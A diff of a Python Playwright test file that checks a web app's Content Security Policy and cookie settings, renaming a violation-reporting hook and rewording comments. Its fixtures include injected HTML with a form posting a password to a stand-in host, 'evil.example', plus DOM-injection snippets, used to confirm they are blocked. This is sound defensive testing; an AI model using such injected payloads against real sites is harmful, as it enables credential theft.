@@ -1,6 +1,6 @@
 """The policy by its effects: what is injected does nothing, what is ours is never hindered.
 
-Hostile parts are put into real answers of ours, with their headers as they are; the same answer without its
+Hostile parts are put into the app's real answers, with their headers as they are; the same answer without its
 headers shows that each of them would have worked.
 """
 
@@ -31,9 +31,9 @@ ANNA = BY_SLUG["anna-active"].escn
 EVIL = "https://evil.example"
 WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
   (window.violations ??= []).push(event.effectiveDirective);
-  window.tellViolation?.(`${event.effectiveDirective} ${event.blockedURI} on ${location.pathname}`);
+  window.reportViolation?.(`${event.effectiveDirective} ${event.blockedURI} on ${location.pathname}`);
 });"""
-# What stands on the page, looked at in one go: these pages go on to the sign-in by themselves.
+# The page's content, read in one call: these pages redirect to the sign-in by themselves.
 TOLD_AFTERWARDS = f"""() => {{
   const shows = (what) => document.querySelector(what)?.textContent.trim();
   if (document.title.includes("Late answers")) return "the page";
@@ -65,7 +65,7 @@ INJECTED = f"""
 <form id="form" action="{EVIL}/form" method="post"><input name="password" value="x"></form>
 """
 SCRIPTS = {"a script", "a script in an address", "a module", "a handler", "a drawing", "a fold", "a frame"}
-# What a script of ours that went astray could do; each gives the name of what it was refused with.
+# What a faulty script of the app could do; each gives the name of the error that refused it.
 ASTRAY = {
     "innerHTML": "document.querySelector('main').innerHTML = '<b>x</b>'",
     "outerHTML": "document.querySelector('main').outerHTML = '<b>x</b>'",
@@ -93,8 +93,8 @@ ELSEWHERE = {
 }
 OPENS = "const opens = (line) => new Promise((yes, no) => { line.onopen = yes; line.onerror = no; })"
 # Done by a timer: what is evaluated from outside may eval.
-REFUSAL = """(deed) => new Promise((tell) => setTimeout(() => {
-  try { deed(); tell("did it"); } catch (error) { tell(error.name); }
+REFUSAL = """(deed) => new Promise((report) => setTimeout(() => {
+  try { deed(); report("did it"); } catch (error) { report(error.name); }
 }))"""
 
 
@@ -110,7 +110,7 @@ def browsing(browser: Browser, site: Site, state: StorageState | None = None) ->
 
 
 def reached(page: Page) -> list[str]:
-    """From here on, what was asked of the evil site."""
+    """Record the requests to the evil site."""
     asked: list[str] = []
 
     def answer(route: Route) -> None:
@@ -259,7 +259,7 @@ def test_the_whole_journey_breaks_no_rule(films: Browser, site: Site) -> None:
     """Mia signs in, scans, sends a photo, types, opens every linked page, signs out, locks a tablet."""
     broken: list[str] = []
     with open_scanner(films, site, **CAMERA_ALLOWED) as at:
-        at.page.expose_function("tellViolation", lambda told: broken.append(str(told)))
+        at.page.expose_function("reportViolation", lambda violation: broken.append(str(violation)))
         at.page.add_init_script(WATCH)
         at.sign_in_as("manager").install()
         at.shows("valid", "active", "live")
@@ -281,7 +281,7 @@ def test_the_whole_journey_breaks_no_rule(films: Browser, site: Site) -> None:
 
 
 def everywhere(at: ScannerDriver) -> set[str]:
-    """Open every page that a link of ours leads to, and theirs."""
+    """Open every page that links lead to, and the pages that those link to."""
     links = "() => [...document.querySelectorAll('a[href^=\"/\"]')].map((a) => new URL(a.href).pathname)"
     seen: set[str] = set()
     waiting = ["/"]
@@ -316,7 +316,7 @@ def test_the_cookie_is_as_closed_as_cookies_can_be(
         page.wait_for_url(f"{site.address}/")
         found = cookies(page.context)
 
-        # The session's, and the mark of a browser that somebody used before, which only the sign-in is sent.
+        # The session cookie, and the device cookie, which is sent to the sign-in only.
         assert {cookie["name"]: cookie["path"] for cookie in found} == {
             "__Host-escv": "/",
             "__Secure-escv-known": "/login",
